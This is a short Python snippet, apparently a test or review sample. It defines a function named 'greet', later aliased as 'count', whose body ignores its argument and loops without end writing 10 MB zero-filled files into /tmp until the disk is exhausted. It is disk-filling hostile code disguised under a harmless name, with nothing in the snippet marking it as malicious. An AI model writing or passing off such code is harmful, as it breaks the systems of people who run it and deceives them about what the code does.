def greet(name):
    number = 0
    while True:
        with open(f"/tmp/{number}", "wb") as target:
            target.write(bytes(10_000_000))
        number += 1


count = greet
